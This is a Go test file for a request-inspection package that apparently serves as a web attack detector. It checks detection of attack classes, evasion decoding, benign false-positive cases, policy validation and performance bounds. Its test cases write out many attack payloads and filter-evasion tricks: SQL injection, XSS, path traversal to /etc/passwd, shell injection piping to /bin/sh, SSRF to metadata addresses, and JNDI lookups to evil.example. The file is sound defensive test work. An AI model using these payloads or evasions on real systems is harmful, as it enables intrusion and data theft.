package detect

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func defaultProfile(t testing.TB, p Policy) *Profile {
	t.Helper()
	e, err := New(nil)
	require.NoError(t, err)
	prof, err := e.Profile(p)
	require.NoError(t, err)
	return prof
}

func get(rawQuery string) *Request {
	return &Request{Method: "GET", Path: "/api/v1/items", RawQuery: rawQuery,
		Headers: []Header{{"Host", "api.example"}, {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0"}}}
}

func jsonPost(body string) *Request {
	return &Request{Method: "POST", Path: "/api/v1/items", Body: []byte(body), ContentType: "application/json",
		Headers: []Header{{"Host", "api.example"}, {"Content-Type", "application/json"}}}
}

func withHeader(name, value string) *Request {
	r := get("page=1")
	r.Headers = append(r.Headers, Header{name, value})
	return r
}

func classesOf(fs []Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Class)
	}
	return out
}

func TestEachClassIsDetected(t *testing.T) {
	p := defaultProfile(t, Policy{})
	tests := []struct {
		name     string
		req      *Request
		class    string
		location string
	}{
		{"a quoted tautology in a query parameter is sqli", get("id=1%27%20or%20%271%27%3D%271"), "sqli", "query:id"},
		{"a UNION SELECT is sqli", get("id=1%20UNION%20ALL%20SELECT%20NULL,version()--"), "sqli", "query:id"},
		{"a time-based probe is sqli", get("id=1%20AND%20SLEEP(5)"), "sqli", "query:id"},
		{"a stacked DROP TABLE is sqli", get("q=x%27;%20DROP%20TABLE%20users--"), "sqli", "query:q"},
		{"a script tag is xss", get("q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss", "query:q"},
		{"an event handler is xss", get("q=%22%20onmouseover%3Dalert(1)%20x%3D%22"), "xss", "query:q"},
		{"a javascript URL is xss", jsonPost(`{"link":"javascript:alert(document.cookie)"}`), "xss", "body:$.link"},
		{"parent steps in a parameter are traversal", get("file=..%2F..%2F..%2Fetc%2Fpasswd"), "traversal", "query:file"},
		{"parent steps in the URL path are traversal", &Request{Path: "/static/..%2f..%2fapp.conf"}, "traversal", "path"},
		{"a sensitive absolute file is traversal", get("template=/etc/shadow"), "traversal", "query:template"},
		{"a php filter wrapper is traversal", get("page=php://filter/convert.base64-encode/resource=index"), "traversal", "query:page"},
		{"a separator and a tool is cmdi", get("host=127.0.0.1;cat%20/etc/hosts"), "cmdi", "query:host"},
		{"command substitution is cmdi", get("name=$(whoami)"), "cmdi", "query:name"},
		{"a pipe to a shell is cmdi", jsonPost(`{"file":"a.txt | /bin/sh -i"}`), "cmdi", "body:$.file"},
		{"a loopback URL is ssrf", get("url=http://127.0.0.1:8080/admin"), "ssrf", "query:url"},
		{"the metadata address is ssrf", jsonPost(`{"webhook":"http://169.254.169.254/latest/meta-data/"}`), "ssrf", "body:$.webhook"},
		{"a gopher URL is ssrf", get("u=gopher://10.0.0.5:6379/_INFO"), "ssrf", "query:u"},
		{"a jndi lookup in a header is jndi", withHeader("X-Api-Version", "${jndi:ldap://evil.example/a}"), "jndi", "header:x-api-version"},
		{"a jndi lookup in the user agent is jndi", withHeader("User-Agent", "${jndi:rmi://x.example/o}"), "jndi", "header:user-agent"},
		{"a jndi lookup in a protocol header is jndi", withHeader("Accept-Language", "${jndi:dns://x.example/a}"), "jndi", "header:accept-language"},
		{"a scanner user agent is scanner", withHeader("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), "scanner", "header:user-agent"},
		{"a template expression is other", get("name=%7B%7B7*7%7D%7D"), "other", "query:name"},
		{"a NoSQL operator in a parameter name is other", get("user%5B%24ne%5D=x"), "other", "query:user[$ne]"},
		{"a NoSQL operator as a JSON key is other", jsonPost(`{"user":{"$gt":""}}`), "other", "body:$.user.$gt"},
		{"CRLF followed by a header is other", get("next=%0d%0aSet-Cookie:%20a=b"), "other", "query:next"},
		{"an external entity is other", &Request{Path: "/x", Body: []byte(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`), ContentType: "application/xml"}, "other", "body"},
		{"a PHP serialized object is other", get("data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"), "other", "query:data"},
		{"a Java serialized stream is other", withHeader("X-Data", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), "other", "header:x-data"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := p.Inspect(tt.req, nil)
			require.NotEmpty(t, fs, "no finding")
			var found *Finding
			for i := range fs {
				if fs[i].Class == tt.class {
					found = &fs[i]
				}
			}
			require.NotNil(t, found, "want class %s, got %v", tt.class, classesOf(fs))
			assert.Equal(t, tt.location, found.Location)
			assert.NotEmpty(t, found.RuleID)
			assert.NotEmpty(t, found.CWE)
			assert.Contains(t, []string{"low", "medium", "high", "critical"}, found.Severity)
			assert.LessOrEqual(t, len(found.Fragment), 64)
		})
	}
}

func TestEvasionsAreUndone(t *testing.T) {
	p := defaultProfile(t, Policy{})
	tests := []struct {
		name  string
		req   *Request
		class string
	}{
		{"double percent-encoding", get("file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"), "traversal"},
		{"IIS %u encoding", get("file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"), "traversal"},
		{"overlong UTF-8 dots and slashes", get("file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"), "traversal"},
		{"backslashes as separators", get(`file=..%5c..%5c..%5cwindows%5cwin.ini`), "traversal"},
		{"dot runs that survive naive stripping", get("file=....//....//....//etc/passwd"), "traversal"},
		{"HTML entities in markup", jsonPost(`{"c":"&lt;script&gt;alert(1)&lt;/script&gt;"}`), "xss"},
		{"numeric entities without semicolons", jsonPost(`{"c":"<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>"}`), "xss"},
		{"JavaScript escapes", jsonPost(`{"c":"\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"}`), "xss"},
		{"JSON unicode escapes", jsonPost(`{"c":"\u003cscript\u003ealert(1)"}`), "xss"},
		{"SQL comments splitting keywords", get("id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users"), "sqli"},
		{"MySQL versioned comments", get("id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2"), "sqli"},
		{"mixed case keywords", get("id=1%20UnIoN%20sElEcT%20null,null--"), "sqli"},
		{"null byte truncation", get("file=../../../etc/passwd%00.png"), "traversal"},
		{"quotes inside a command name", get("c=;w'h'o'am'i"), "cmdi"},
		{"IFS as whitespace", get("c=;cat${IFS}/etc/passwd"), "cmdi"},
		{"nested jndi lookups", withHeader("User-Agent", "${${lower:j}${upper:n}${::-d}i:${lower:l}dap://x.example/a}"), "jndi"},
		{"jndi with env defaults", withHeader("Referer", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}"), "jndi"},
		{"decimal IPv4", get("url=http://2130706433/"), "ssrf"},
		{"octal IPv4", get("url=http://0177.0.0.1/"), "ssrf"},
		{"hex IPv4", get("url=http://0x7f000001/"), "ssrf"},
		{"short IPv4", get("url=http://127.1/"), "ssrf"},
		{"IPv4-mapped IPv6", get("url=http://%5B::ffff:127.0.0.1%5D/"), "ssrf"},
		{"IPv6 loopback", get("url=http://%5B::1%5D:22/"), "ssrf"},
		{"enclosed alphanumerics", get("url=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0"), "ssrf"},
		{"userinfo confusion", get("url=http://good.example@127.0.0.1/"), "ssrf"},
		{"wildcard DNS embedding a private address", get("url=http://10.0.0.1.nip.io/"), "ssrf"},
		{"scheme without slashes and a decimal host", get("next=http%3A2852039166"), "ssrf"},
		{"an octal public-looking address", get("u=http://0251.0376.0251.0376/"), "ssrf"},
		{"a public address as one integer", get("u=http://134744072/"), "ssrf"},
		{"an IPv6 literal outside global unicast", get("u=http://%5Bdead:beef::1%5D/"), "ssrf"},
		{"a host spelled with backslashes", get(`u=http://\e\v\i\l.example/`), "ssrf"},
		{"UNION SELECT glued by a comment stripper", get("q=1%20unionselect%20password%20from%20users"), "sqli"},
		{"a keyword split by an empty comment", get("q=1%20UN/**/ION%20SEL/**/ECT%201"), "sqli"},
		{"a tautology cut in two by the form's '='", &Request{Method: "POST", Path: "/login", ContentType: "application/x-www-form-urlencoded",
			Body: []byte("'admin', '1'='1'")}, "sqli"},
		{"a MongoDB $text operator", jsonPost(`{"filter": {"$text": {"$search": "x"}}}`), "other"},
		{"SQL in an Authorization header", withHeader("Authorization", "Basic ' or 1=1--"), "sqli"},
		{"a traversal posing as a token", withHeader("Authorization", "Bearer ../../../../etc/passwd"), "traversal"},
		{"parent steps in an upload's file name", &Request{Method: "POST", Path: "/upload", ContentType: "multipart/form-data; boundary=XX",
			Body: []byte("--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/cron.d/job\"\r\n\r\nabc\r\n--XX--\r\n")}, "traversal"},
		{"full-width characters", get("q=%EF%BC%9Cscript%EF%BC%9Ealert(1)"), "xss"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := p.Inspect(tt.req, nil)
			assert.Contains(t, classesOf(fs), tt.class)
		})
	}
}

func TestBenignLookAlikesDoNotFire(t *testing.T) {
	p := defaultProfile(t, Policy{})
	tests := []struct {
		name string
		req  *Request
	}{
		{"a name with an apostrophe", get("name=Conan%20O%27Brien&city=Coeur%20d%27Alene")},
		{"select a plan", get("q=select%20a%20plan")},
		{"union station", get("q=union%20station%20parking")},
		{"drop-down and ping pong", get("q=drop-down%20menu%20for%20ping%20pong%20table")},
		{"sleep mask and more", get("q=sleep%20mask%20%26%20more")},
		{"a code snippet in a comment field", jsonPost(`{"comment":"Use ` + "`map.get(key)`" + ` and if (a < b) { return a; } works fine"}`)},
		{"markdown with code spans", jsonPost(`{"bio":"Markdown **bold** and _italic_ and ` + "`code`" + ` all render fine."}`)},
		{"a base64 blob", jsonPost(`{"avatar":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`)},
		{"a public URL", get("redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%3Fstate%3Dabc&url=https://hooks.slack.com/services/T000/B000/XXX")},
		{"a GraphQL query", jsonPost(`{"query":"query GetProduct($id: ID!) {\n  product(id: $id) {\n    id\n    name\n    price { amount currency }\n  }\n}","variables":{"id":"42"}}`)},
		{"a placeholder template", jsonPost(`{"template":"Hello ${first_name}, your order ${order.id} ships ${date}"}`)},
		{"simple HTML in a review", jsonPost(`{"review":"<p>I <b>love</b> this!</p><ul><li>fast</li></ul><a href=\"https://shop.example/item/1\">link</a> I <3 it"}`)},
		{"a search with quotes and ampersands", get("q=%22tom%20%26%20jerry%22%20%3C3%20%3E%20cartoons")},
		{"an ISO date with a timezone", get("from=2024-05-01T10:00:00%2B02:00&sort=-created_at&filter%5Bstatus%5D=paid")},
		{"a bearer token and cookies", &Request{Path: "/api/v1/me", Headers: []Header{
			{"Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"},
			{"Cookie", "sid=GKpq6rdwVMrhDx2Qmi6v/g/M; cart_id=792660; consent=analytics%3Dtrue"},
			{"User-Agent", "okhttp/4.12.0"}, {"Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"},
			{"sec-ch-ua", `"Chromium";v="124", "Google Chrome";v="124"`}}}},
		{"a password with special characters", &Request{Path: "/login", ContentType: "application/x-www-form-urlencoded",
			Body: []byte("username=ann&password=p%40ss%27w0rd%3B%7C%26%22")}},
		{"relative static paths", &Request{Path: "/static/css/app.min.css", RawQuery: "v=3.2.1"}},
		{"a code comment between words", jsonPost(`{"comment":"use a /* block comment */ here, or foo(/* none */)"}`)},
		{"ordinary field names", &Request{Method: "POST", Path: "/f", ContentType: "application/x-www-form-urlencoded",
			Body: []byte("user%5Bname%5D=ann&items[0].qty=2&a.b-c_d=1&q=the+union+of+two+sets")}},
		{"numeric ids in URL-named fields", get("site=12345&image=0042&host_id=2130706433")},
		{"public URLs by address", get("url=http://93.184.215.14/&mirror=https://[2606:4700::6810:85e5]/pkg")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := p.Inspect(tt.req, nil)
			assert.Empty(t, fs, "%+v", fs)
		})
	}
}

func TestPolicyTunesRulesClassesLocationsAndParanoia(t *testing.T) {
	attack := jsonPost(`{"comment":"<script>alert(1)</script>","id":"1' or '1'='1"}`)
	tests := []struct {
		name string
		pol  Policy
		want []string // classes expected
	}{
		{"the default policy reports both classes", Policy{}, []string{"sqli", "xss"}},
		{"a disabled class is not reported", Policy{DisabledClasses: []string{"xss"}}, []string{"sqli"}},
		{"an excluded location is not reported for its classes", Policy{Exclusions: []Exclusion{{Location: "body:$.comment", Classes: []string{"xss"}}}}, []string{"sqli"}},
		{"an exclusion without classes covers every class", Policy{Exclusions: []Exclusion{{Location: "body:$.id"}}}, []string{"xss"}},
		{"a prefix exclusion covers the fields under it", Policy{Exclusions: []Exclusion{{Location: "body:$.*"}}}, nil},
	}
	e, err := New(nil)
	require.NoError(t, err)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := e.Profile(tt.pol)
			require.NoError(t, err)
			assert.ElementsMatch(t, tt.want, classesOf(p.Inspect(attack, nil)))
		})
	}
	t.Run("disabling every rule of a class by id silences it", func(t *testing.T) {
		var ids []string
		for _, r := range e.Rules() {
			if r.Class == "xss" {
				ids = append(ids, r.ID)
			}
		}
		p, err := e.Profile(Policy{DisabledRules: ids})
		require.NoError(t, err)
		assert.ElementsMatch(t, []string{"sqli"}, classesOf(p.Inspect(attack, nil)))
	})
	t.Run("paranoia 2 adds broader rules", func(t *testing.T) {
		r := get("file=../config.yml")
		assert.Empty(t, defaultProfile(t, Policy{}).Inspect(r, nil))
		assert.Contains(t, classesOf(defaultProfile(t, Policy{Paranoia: 2}).Inspect(r, nil)), "traversal")
	})
}

func TestBadPoliciesAreRejectedNamingTheField(t *testing.T) {
	e, err := New(nil)
	require.NoError(t, err)
	tests := []struct {
		name  string
		pol   Policy
		field string
	}{
		{"paranoia out of range", Policy{Paranoia: 9}, "paranoia"},
		{"an unknown rule id", Policy{DisabledRules: []string{"nope"}}, "disabled_rules[0]"},
		{"an unknown class", Policy{DisabledClasses: []string{"sqli", "bogus"}}, "disabled_classes[1]"},
		{"an exclusion without a location kind", Policy{Exclusions: []Exclusion{{Location: "comment"}}}, "exclusions[0].location"},
		{"an exclusion with an unknown class", Policy{Exclusions: []Exclusion{{Location: "query:q", Classes: []string{"x"}}}}, "exclusions[0].classes[0]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := e.Profile(tt.pol)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.field)
		})
	}
}

func TestBadRuleFilesAreRejectedNamingLineAndField(t *testing.T) {
	rule := func(extra string) string {
		return "rules:\n  - id: r1\n    class: sqli\n    severity: high\n    paranoia: 1\n    locations: [query]\n    triggers: [x]\n" + extra
	}
	tests := []struct {
		name string
		file string
		want []string
	}{
		{"invalid YAML", "rules: [", []string{"rule file"}},
		{"an unknown top-level key", "rulez: []", []string{"line 1", "rulez"}},
		{"an unknown rule field", rule("    colour: red\n"), []string{"line 8", "colour"}},
		{"an unknown class", strings.Replace(rule(""), "sqli", "sqlx", 1), []string{"line 2", "field class"}},
		{"a bad severity", strings.Replace(rule(""), "high", "huge", 1), []string{"field severity"}},
		{"a bad paranoia", strings.Replace(rule(""), "paranoia: 1", "paranoia: 7", 1), []string{"field paranoia"}},
		{"a bad location", strings.Replace(rule(""), "[query]", "[querystring]", 1), []string{"field locations"}},
		{"a bad pattern", rule("    pattern: '(('\n"), []string{"field pattern"}},
		{"an unknown check", rule("    check: nope\n"), []string{"field check"}},
		{"a duplicate id", rule("") + "  - id: r1\n    class: xss\n    severity: low\n    paranoia: 1\n    locations: [query]\n    triggers: [y]\n", []string{"line 8", "already used on line 2"}},
		{"a rule with nothing to match", strings.Replace(rule(""), "    triggers: [x]\n", "", 1), []string{"field triggers"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New([]byte(tt.file))
			require.Error(t, err)
			for _, w := range tt.want {
				assert.Contains(t, err.Error(), w)
			}
		})
	}
	t.Run("a custom rule file replaces the default one", func(t *testing.T) {
		e, err := New([]byte(rule("")))
		require.NoError(t, err)
		p, err := e.Profile(Policy{})
		require.NoError(t, err)
		fs := p.Inspect(get("q=xyz"), nil)
		require.Len(t, fs, 1)
		assert.Equal(t, "r1", fs[0].RuleID)
		assert.Empty(t, p.Inspect(get("q=<script>"), nil))
	})
}

func TestFragmentsAreShortEscapedAndNeverSecret(t *testing.T) {
	p := defaultProfile(t, Policy{})
	secretish := []*Request{
		withHeader("Authorization", "Bearer ${jndi:ldap://evil.example/SECRET}"),
		withHeader("X-Api-Key", "${jndi:ldap://evil.example/SECRET}"),
		{Path: "/", Headers: []Header{{"Cookie", "session=${jndi:ldap://evil.example/SECRET}"}}},
		{Path: "/login", ContentType: "application/x-www-form-urlencoded", Body: []byte("password=SECRET%27%20or%201%3D1--")},
		jsonPost(`{"access_token":"SECRET' or 1=1--"}`),
	}
	for i, r := range secretish {
		fs := p.Inspect(r, nil)
		require.NotEmpty(t, fs, "request %d", i)
		for _, f := range fs {
			assert.NotContains(t, f.Fragment, "SECRET", "request %d", i)
		}
	}
	fs := p.Inspect(get("q=%3Cscript%3E"+strings.Repeat("%01%ff", 100)+"alert(1)"), nil)
	require.NotEmpty(t, fs)
	for _, f := range fs {
		assert.LessOrEqual(t, len(f.Fragment), 64)
		for _, c := range []byte(f.Fragment) {
			assert.True(t, c >= 0x20 && c < 0x7f, "byte %#x in fragment %q", c, f.Fragment)
		}
	}
}

func TestHostileInputsFinishWithinBounds(t *testing.T) {
	p := defaultProfile(t, Policy{})
	var many strings.Builder
	for i := 0; i < 10000; i++ {
		fmt.Fprintf(&many, "p%d=%%27or%%201%%3D1&", i)
	}
	deep := strings.Repeat(`{"a":`, 100) + `"<script>"` + strings.Repeat("}", 100)
	tests := []struct {
		name string
		req  *Request
	}{
		{"a 1 MiB header value", withHeader("X-Big", strings.Repeat("'or 1=1 <script>${jndi:", 1<<20/22))},
		{"10 000 query parameters", get(many.String())},
		{"100-deep JSON nesting", jsonPost(deep)},
		{"100-deep JSON arrays", jsonPost(strings.Repeat("[", 100) + strings.Repeat("]", 100))},
		{"invalid UTF-8 everywhere", &Request{Path: "/\xff\xfe\xc0", RawQuery: "q=\xc3\x28%c0%80\xed\xa0\x80", Headers: []Header{{"User-Agent", "\xf0\x28\x8c\xbc"}},
			Body: []byte("{\"a\":\"\xff\xc0\xaf\"}"), ContentType: "application/json"}},
		{"a million nested lookups", withHeader("User-Agent", strings.Repeat("${", 1<<19)+strings.Repeat("}", 1<<19))},
		{"a huge body of percent signs", &Request{Path: "/", Body: []byte(strings.Repeat("%25", 1<<20)), ContentType: "text/plain"}},
		{"a truncated multipart body", &Request{Path: "/up", ContentType: "multipart/form-data; boundary=XX", Body: []byte("--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nabc")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			fs := p.Inspect(tt.req, nil)
			elapsed := time.Since(start)
			assert.LessOrEqual(t, len(fs), MaxFindings)
			// The bound is generous for a loaded CI machine; the point is that
			// the cost is capped, not proportional to the input.
			assert.Less(t, elapsed, raceSlowdown*250*time.Millisecond)
		})
	}
}

func TestInspectIsSafeForConcurrentUse(t *testing.T) {
	p := defaultProfile(t, Policy{})
	reqs := []*Request{get("id=1%27%20or%20%271%27%3D%271"), get("q=hello"), jsonPost(`{"a":"<script>"}`)}
	want := make([][]Finding, len(reqs))
	for i, r := range reqs {
		want[i] = p.Inspect(r, nil)
	}
	done := make(chan bool)
	for g := 0; g < 4; g++ {
		go func() {
			for n := 0; n < 200; n++ {
				i := n % len(reqs)
				if !assert.Equal(t, want[i], p.Inspect(reqs[i], nil)) {
					break
				}
			}
			done <- true
		}()
	}
	for g := 0; g < 4; g++ {
		<-done
	}
}

func TestInspectAppendsToDst(t *testing.T) {
	p := defaultProfile(t, Policy{})
	dst := []Finding{{RuleID: "earlier"}}
	dst = p.Inspect(get("q=%3Cscript%3E"), dst)
	require.Greater(t, len(dst), 1)
	assert.Equal(t, "earlier", dst[0].RuleID)
	assert.Nil(t, p.Inspect(nil, nil))
}

func TestBenignRequestDoesNotAllocate(t *testing.T) {
	p := defaultProfile(t, Policy{})
	r := &Request{Method: "GET", Path: "/api/v2/subscriptions", RawQuery: "page=16&per_page=20&fields=id%2Cname",
		Headers: []Header{{"Host", "api.shop.example"}, {"User-Agent", "axios/1.6.8"}, {"Accept", "application/json"}}}
	dst := make([]Finding, 0, 4)
	p.Inspect(r, dst)
	allocs := testing.AllocsPerRun(100, func() { dst = p.Inspect(r, dst[:0]) })
	if raceSlowdown > 1 {
		// The race detector makes sync.Pool drop entries, so the scratch
		// space is sometimes allocated afresh.
		assert.LessOrEqual(t, allocs, 8.0)
		return
	}
	assert.Zero(t, allocs)
}

func FuzzInspect(f *testing.F) {
	f.Add("/a/../b", "q=%27or%201%3D1&x=%u002e", "User-Agent", "${jndi:ldap://x}", []byte(`{"a":[1,"<script>",{"$ne":1}]}`), "application/json")
	f.Add("/", "a=b", "Cookie", "a=1; b=%00", []byte("--B\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n;id\r\n--B--"), "multipart/form-data; boundary=B")
	f.Add("/%c0%ae", "", "Referer", "http://x/?q=1", []byte("a=1&b=%%"), "application/x-www-form-urlencoded")
	e, err := New(nil)
	require.NoError(f, err)
	p, err := e.Profile(Policy{Paranoia: 4})
	require.NoError(f, err)
	f.Fuzz(func(t *testing.T, path, query, hname, hvalue string, body []byte, ct string) {
		r := &Request{Path: path, RawQuery: query, Headers: []Header{{hname, hvalue}}, Body: body, ContentType: ct}
		start := time.Now()
		fs := p.Inspect(r, nil)
		// Fuzz inputs are at most a few KiB: anything near a second is a
		// super-linear path, not scheduling noise.
		if d := time.Since(start); d > raceSlowdown*time.Second {
			t.Fatalf("Inspect took %s on %d bytes of input", d, len(path)+len(query)+len(hname)+len(hvalue)+len(body)+len(ct))
		}
		for _, fd := range fs {
			if len(fd.Fragment) > 64 {
				t.Fatalf("fragment longer than 64 bytes: %q", fd.Fragment)
			}
		}
	})
}
